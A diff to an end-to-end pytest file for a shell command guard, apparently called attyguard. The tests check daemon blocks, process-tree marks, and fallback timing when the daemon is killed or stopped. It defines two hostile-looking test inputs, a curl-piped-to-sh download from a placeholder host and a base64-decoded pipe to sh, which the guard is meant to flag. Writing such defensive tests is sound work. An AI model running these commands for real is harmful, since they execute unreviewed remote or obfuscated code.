@@ -17,6 +17,7 @@ printed as a figure (`pytest -s`); the assertion on it is deliberately loose
 from __future__ import annotations
 
 import contextlib
+import os
 import re
 import signal
 import statistics
@@ -39,7 +40,7 @@ pytestmark = pytest.mark.e2e
 WARNED = "curl -fsS http://example.invalid/i.sh | sh"
 BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # a Tier-1 block rule: refused locally too
 AUTO_BLOCK = "[accumulator]\nauto_block = true\nblock_threshold = 0.5\n"
-SLACK_S = 1.0  # generous bound on a fallback's added delay (shared, loaded machine)
+SLACK_S = 1.0  # generous bound on a fallback's added delay (a shared, loaded machine)
 
 
 @dataclass
@@ -133,13 +134,13 @@ def scene(shell: Callable[..., Tmux], ag_env: dict[str, str], ag_home: Path
     remove_tmpdirs()
 
 
-def _figure(name: str, before: list[float], after: list[float]) -> float:
+def _added_delay(name: str, before: list[float], after: list[float]) -> float:
+    """The worst extra time of a command after the event vs before it; printed as a figure."""
     base = statistics.median(before)
-    added = after[0] - base
     print(f"FIGURE {name}: round trip before {', '.join(f'{x * 1000:.0f}' for x in before)} ms "
           f"(median {base * 1000:.0f}); after {', '.join(f'{x * 1000:.0f}' for x in after)} ms; "
-          f"first after adds {added * 1000:.0f} ms")
-    return added
+          f"first after adds {(after[0] - base) * 1000:.0f} ms")
+    return max(after) - base
 
 
 def test_daemon_is_asked_before_the_local_patterns(scene, attyguard_bin, ag_env):
@@ -168,8 +169,10 @@ def test_daemon_block_refuses_without_prompt_and_locks_the_shell(scene):
     s.wait_connected()
     pid = s.shell_pid()
     assert s.level_of(pid) == "none", s.dump()
+    s.t.send_line("if true; then")  # bash waits for more: the block must cancel that too
+    s.wait(r"^>$")
     s.t.send_line(f"{WARNED}; echo ran-blocked")
-    # One REFUSED line, then an empty prompt: no question, the buffer cleared.
+    # One REFUSED line, then an empty PS1 prompt: no question, the buffer cleared.
     screen = s.wait(r"^REFUSED — .*auto-block.*\n\[~\]\$$")
     assert "[y]es" not in screen, s.dump()
     assert not re.search(r"^ran-blocked$", screen, re.MULTILINE), s.dump()
@@ -179,6 +182,13 @@ def test_daemon_block_refuses_without_prompt_and_locks_the_shell(scene):
     s.t.send_line("echo next-harmless")
     screen = s.wait(r"^REFUSED — this process tree is marked Critical.*\n\[~\]\$$")
     assert not re.search(r"^next-harmless$", screen, re.MULTILINE), s.dump()
+    if os.geteuid() != 0:
+        return  # only root may lift a mark
+    # An operator lifts the mark; the next line runs in a bash that kept no
+    # half-entered `if` from before the block.
+    assert s.call("clear", pid=pid)["cleared"] is True, s.dump()
+    s.t.send_line("echo after-clear")
+    s.wait(r"^after-clear\n\[~\]\$$")
 
 
 def test_trusted_line_short_circuits_the_daemon_block(scene, attyguard_bin, ag_env):
@@ -219,14 +229,18 @@ def test_daemon_killed_mid_session_falls_back_then_reconnects(scene):
     s = scene(timeout_ms=150)
     s.wait_connected()
     before = [s.round_trip() for _ in range(3)]
+    # While the daemon answers, it refuses everything from this shell ...
+    s.call("mark", pid=s.shell_pid(), level="critical", reason="marked by the test")
+    s.t.send_line("echo refused-by-daemon")
+    s.wait(r"^REFUSED — this process tree is marked Critical.*\n\[~\]\$$")
     s.daemon.signal(signal.SIGKILL)
     assert s.daemon.proc is not None
     s.daemon.proc.wait(10)
+    # ... once it is dead, the in-process verdict runs the same harmless lines.
     after = [s.round_trip() for _ in range(3)]
-    added = _figure("kill -9 fallback", before, after)
-    assert added < s.timeout_ms / 1000 + SLACK_S, s.dump()
+    assert _added_delay("kill -9 fallback", before, after) < SLACK_S, s.dump()
     s.wait(r"daemon: unavailable: ")
-    s.t.send_line(BLOCKED)
+    s.t.send_line(BLOCKED)  # and the in-process patterns still guard
     s.wait(r"^REFUSED — .+\n\[~\]\$$")
     s.daemon.start()  # same socket path: the stale socket file is replaced
     s.wait_connected()
@@ -240,14 +254,20 @@ def test_stopped_daemon_costs_at_most_the_deadline_then_recovers(scene):
     s.daemon.signal(signal.SIGSTOP)
     try:
         after = [s.round_trip() for _ in range(3)]
-        added = _figure("SIGSTOP fallback", before, after)
-        assert added < s.timeout_ms / 1000 + SLACK_S, s.dump()
+        assert _added_delay("SIGSTOP fallback", before, after) < SLACK_S, s.dump()
         s.wait(r"daemon: unavailable: daemon timed out after 150 ms")
         s.t.send_line(BLOCKED)
         s.wait(r"^REFUSED — .+\n\[~\]\$$")
     finally:
         s.daemon.signal(signal.SIGCONT)
     s.wait_connected()
+    # Leaving the shell does not wait for a stopped daemon either.
+    s.daemon.signal(signal.SIGSTOP)
+    try:
+        s.t.send_keys("C-d")
+        assert s.t.wait_exit(5) == 0, s.dump()
+    finally:
+        s.daemon.signal(signal.SIGCONT)
 
 
 def test_warn_mode_event_reaches_status_bar_and_alt_shift_w(scene):
